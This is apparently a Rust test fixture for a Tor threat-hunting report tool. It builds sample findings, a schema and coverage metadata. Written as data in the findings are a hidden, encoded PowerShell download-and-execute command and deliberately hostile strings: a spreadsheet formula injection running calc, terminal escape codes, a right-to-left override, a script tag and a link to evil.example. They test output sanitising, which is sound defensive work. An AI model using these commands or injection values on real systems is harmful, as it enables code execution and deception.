//! A small report for the tests of this room: every column, every level, hostile text, null and empty sets.

use std::sync::Arc;

use arrow::array::{AsArray, RecordBatch};
use arrow::datatypes::{DataType, Field, Fields, Schema, TimeUnit, TimestampMicrosecondType};
use arrow::json::ReaderBuilder;

use super::Style;
use crate::model::Micros;
use crate::model::coverage::{
    COVERAGE_VERSION, Counted, Coverage, Drift, ExclusionFacts, FileFacts, Funnel, HuntFacts, IntelFacts, IntelSource,
    PeriodFacts, Removed, Skipped, TorCovered, TorFacts, TorSource, Unreadable,
};
use crate::model::finding::COLUMNS;

/// Findings in the sample.
pub(super) const FINDINGS: usize = 4;

/// Without colour.
pub(super) const fn plain(width: usize) -> Style {
    Style { width, color: false }
}

/// Schema, findings and coverage.
pub(super) fn report() -> (Schema, Vec<RecordBatch>, Coverage) {
    let schema = Schema::new(COLUMNS.map(|name| Field::new(name, type_of(name), true)).to_vec());
    let batch = batch(&schema, &[CRITICAL, HIGH, MEDIUM, LOW].join("\n"));
    assert_eq!(batch.num_rows(), FINDINGS);
    (schema, vec![batch], coverage())
}

/// Rows from JSON lines.
pub(super) fn batch(schema: &Schema, lines: &str) -> RecordBatch {
    // Arrow's JSON reader knows zones as offsets only, so times are read without the zone's name and get it afterwards.
    let unnamed: Vec<Field> = schema.fields().iter().map(|field| unnamed_zone(field)).collect();
    let mut reader = ReaderBuilder::new(Arc::new(Schema::new(unnamed))).build(lines.as_bytes()).unwrap();
    let read = reader.next().unwrap().unwrap();
    let columns = read.columns().iter().zip(schema.fields()).map(|(column, field)| match field.data_type() {
        DataType::Timestamp(_, _) => {
            Arc::new(column.as_primitive::<TimestampMicrosecondType>().clone().with_timezone("UTC"))
        }
        _ => Arc::clone(column),
    });
    RecordBatch::try_new(Arc::new(schema.clone()), columns.collect()).unwrap()
}

fn unnamed_zone(field: &Field) -> Field {
    match field.data_type() {
        DataType::Timestamp(unit, _) => field.clone().with_data_type(DataType::Timestamp(*unit, Some("+00:00".into()))),
        _ => field.clone(),
    }
}

fn type_of(name: &str) -> DataType {
    let list = |element: DataType| DataType::List(Arc::new(Field::new_list_field(element, true)));
    let time = || DataType::Timestamp(TimeUnit::Microsecond, Some("UTC".into()));
    let record = |fields: &[(&str, DataType)]| {
        let fields: Vec<Field> = fields.iter().map(|(name, kind)| Field::new(*name, kind.clone(), true)).collect();
        list(DataType::Struct(Fields::from(fields)))
    };
    match name {
        "FirstSeen" | "LastSeen" | "TorSeenFrom" | "TorSeenTo" => time(),
        "Count" | "RiskScore" | "DaysActive" | "FailedCount" | "Connections" => DataType::Int64,
        "TI_Confidence" => DataType::Float64,
        "Ports" | "LocalPorts" => list(DataType::Int64),
        "Processes" | "Cmds" | "Accounts" | "HuntingDirectives" | "DeviceIds" | "RemoteUrls" | "ProcessSHA256s" => {
            list(DataType::Utf8)
        }
        "RiskFactors" => record(&[("Factor", DataType::Utf8), ("Points", DataType::Int64)]),
        "SetsTruncated" => record(&[("Set", DataType::Utf8), ("Kept", DataType::Int64), ("Cut", DataType::Int64)]),
        "TI_Matches" => record(&[
            ("TI_Indicator", DataType::Utf8),
            ("TI_Confidence", DataType::Float64),
            ("Source", DataType::Utf8),
            ("ValidFrom", DataType::Timestamp(TimeUnit::Millisecond, None)),
            ("field", DataType::Utf8),
        ]),
        _ => DataType::Utf8,
    }
}

const CRITICAL: &str = r#"{"DeviceName":"wks-finance-014.corp.example","RemoteIP":"198.51.100.47","Direction":"Outbound to Tor","FirstSeen":"2026-05-01T10:00:00.000001Z","LastSeen":"2026-05-06T11:22:33Z","Count":1042,"Processes":["3CXDesktopApp.exe","powershell.exe","tor.exe"],"Cmds":["\"C:\\Program Files\\3CX\\3CXDesktopApp.exe\" --autorun","powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcA","tor.exe -f torrc"],"Accounts":["j.doe","svc_backup"],"Ports":[443,9001],"TI_Hit":"198.51.100.47","TI_Confidence":92,"TI_Type":"C2","RiskLevel":"CRITICAL","MITRE_Tactics":"TA0011 C2; TA0010 Exfiltration; TA0007 Discovery","MITRE_Techniques":"T1090 Proxy; T1071 Application Layer Protocol; T1573 Encrypted Channel","HuntingDirectives":["1. TOR communication detected (Outbound to Tor).","2. Processes: tor.exe"],"RiskScore":100,"RiskFactors":[{"Factor":"level CRITICAL","Points":80},{"Factor":"intelligence valid at event","Points":8},{"Factor":"established","Points":4},{"Factor":"tor client","Points":10},{"Factor":"script host","Points":6},{"Factor":"days active","Points":4},{"Factor":"cut","Points":-12}],"TorRole":"exit","TorEvidence":"undated","TI_Validity":"valid at event","TI_Matches":[{"TI_Indicator":"198.51.100.47","TI_Confidence":92,"Source":"ACME CTI","ValidFrom":"2026-04-01T00:00:00.5","field":"RemoteIP"},{"TI_Indicator":"198.51.100.0/24","TI_Confidence":null}],"DaysActive":4,"FailedCount":3,"Connections":2051,"DeviceIds":["d1"],"LocalPorts":[],"RemoteUrls":["update.example.net"],"SetsTruncated":[{"Set":"Cmds","Kept":3,"Cut":1205}],"VT_Link":"https://www.virustotal.com/gui/ip-address/198.51.100.47","FindingId":"0123456789abcdef"}"#;

const HIGH: &str = r#"{"DeviceName":"=cmd|' /C calc'!A0\u001b[31m\u202e","RemoteIP":"2001:db8:1234:5678:9abc:def0:1234:5678","Direction":"Unknown direction","FirstSeen":"2026-05-02T00:00:00Z","LastSeen":"2026-05-02T00:00:00Z","Count":1,"Processes":["a\u001b]0;owned\u0007|b`c`\r\nd\u009b"],"Cmds":["<script>alert(1)</script> [x](http://evil.example) 漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字"],"Accounts":[""],"Ports":[50001,50002,50003,50004,50005,50006,50007,50008],"TI_Hit":"2001:db8::/32","RiskLevel":"HIGH","RiskScore":60,"RiskFactors":[{"Factor":"level HIGH","Points":60}],"TorRole":"unspecified","TorEvidence":"undated","DaysActive":1,"FailedCount":0,"Connections":1,"LocalPorts":[22],"FindingId":"1123456789abcdef"}"#;

const MEDIUM: &str = r#"{"DeviceName":"srv-1","RemoteIP":"203.0.113.9","Direction":"Outbound to Tor","FirstSeen":"2026-05-02T00:00:00Z","LastSeen":"2026-05-03T00:00:00Z","Count":12,"Processes":["curl.exe"],"Cmds":[],"Accounts":["root"],"Ports":[443],"RiskLevel":"MEDIUM","RiskScore":40,"RiskFactors":[{"Factor":"level MEDIUM","Points":30},{"Factor":"download tool","Points":6}],"TorRole":"exit, guard","TorEvidence":"inside","TorSeenFrom":"2026-04-01T00:00:00Z","TorSeenTo":"2026-06-01T00:00:00Z","TI_Matches":[{"TI_Indicator":"203.0.113.9","TI_Confidence":50.5}],"DaysActive":2,"FailedCount":0,"Connections":12,"FindingId":"2123456789abcdef"}"#;

const LOW: &str = r#"{"DeviceName":null,"RemoteIP":"192.0.2.200","Direction":"Inbound from Tor","FirstSeen":"2026-05-02T00:00:00Z","LastSeen":"2026-05-02T00:00:00Z","Count":1,"Ports":[51234],"RiskLevel":"LOW","RiskScore":16,"RiskFactors":[{"Factor":"level LOW","Points":0},{"Factor":"accepted inbound","Points":12}],"LocalPorts":[443],"FindingId":"3123456789abcdef"}"#;

fn counted(name: &str, count: u64) -> Counted {
    Counted { name: name.into(), count }
}

/// The coverage of the sample; its funnel is of a larger run.
pub(super) fn coverage() -> Coverage {
    Coverage {
        coverage_version: COVERAGE_VERSION,
        tool: "coldtrail 0.0.0".into(),
        hunt: HuntFacts {
            id: "tor_exit".into(),
            title: "Devices that talked to Tor exits".into(),
            blind_spots: vec!["onion sites".into(), "a VPN before Tor".into()],
            params: [("min_count".to_owned(), "1".to_owned())].into(),
        },
        period: PeriodFacts {
            from: Micros::parse("2026-05-01"),
            to: Micros::parse("2026-05-08"),
            archive_from: Micros::parse("2026-04-30T23:59:59.5Z"),
            archive_to: Micros::parse("2026-05-06T12:00:00Z"),
            days_missing: ["2026-05-03", "2026-05-04", "2026-05-05", "2026-05-07"].map(str::to_owned).to_vec(),
            days_known_from: "statistics".into(),
        },
        funnel: Funnel {
            events_in_files: 22_500_000,
            events_in_period: 22_400_000,
            events_matched: Some(31),
            matched_label: "on the Tor list".into(),
            events_after_dedup: Some(22),
            duplicates_removed: Some(9),
            findings: 7,
            findings_by_level: vec![
                counted("CRITICAL", 1),
                counted("HIGH", 2),
                counted("MEDIUM", 3),
                counted("LOW", 1),
            ],
            findings_excluded: 0,
        },
        files: FileFacts {
            sources: vec!["archive/mde".into()],
            found: 90,
            found_bytes: 3 << 30,
            read: 88,
            outside_period: 1,
            pruned_by_path_only: 2,
            skipped: vec![Skipped { path: "archive/mde/bad.parquet".into(), reason: "the footer is cut off".into() }],
            ignored: vec![counted("hidden", 2)],
            records_rejected: 0,
            rejected_examples: Vec::new(),
            not_times: 0,
            not_time_examples: Vec::new(),
            other_tables: Vec::new(),
            unfinished: Vec::new(),
        },
        drift: vec![Drift {
            column: "RemotePort".into(),
            form: "Utf8".into(),
            files: 3,
            first_file: "archive/mde/date=2026-05-02/a.parquet".into(),
            since: Micros::parse("2026-05-02"),
        }],
        unreadable: Unreadable { addresses: 1_200, times: 1, ports: 0 },
        tor: Some(tor()),
        intel: Some(intel()),
        exclusions: Some(ExclusionFacts {
            file: "known.csv".into(),
            removed: vec![Removed {
                finding_id: "e247568eefa83110".into(),
                device_name: Some("lab-1".into()),
                remote_ip: Some("192.0.2.7".into()),
                line: 2,
                reason: "research".into(),
            }],
            unmatched_lines: vec![4, 9],
        }),
        warnings: vec!["the Tor list is 12 days older than the events".into()],
        ..Coverage::default()
    }
}

fn tor() -> TorFacts {
    let source = TorSource {
        source: "exits.csv".into(),
        format: "list".into(),
        records: 1_300,
        addresses: 1_234,
        prefixes: 5,
        duplicates: 58,
        refused: vec![counted("private range", 2), counted("no address", 1)],
        refused_examples: vec!["line 7: 10.0.0.1".into()],
        as_of: Micros::parse("2026-04-19"),
        as_of_from: "file time".into(),
        days_from_events: Some(12),
        ..TorSource::default()
    };
    let day = |text| Micros::parse(text).unwrap();
    let (role, family) = ("exit".into(), "IPv4".into());
    TorFacts {
        sources: vec![source],
        entries: 1_239,
        matching: "auto".into(),
        tolerance_minutes: 24 * 60,
        roles: "exit".into(),
        covered: vec![TorCovered { role, family, from: day("2026-04-19"), to: day("2026-05-02") }],
        events_not_covered: Some(1_000),
        events_left_out: 4,
    }
}

fn intel() -> IntelFacts {
    let source = IntelSource {
        source: "intel.csv".into(),
        format: "table".into(),
        records: 60,
        addresses: 40,
        prefixes: 1,
        ignored: vec![counted("superseded", 12), counted("url", 7)],
        rejected_examples: Vec::new(),
        ..IntelSource::default()
    };
    IntelFacts { sources: vec![source], usable: 41, retired: 3, tor_only: 2, ..IntelFacts::default() }
}
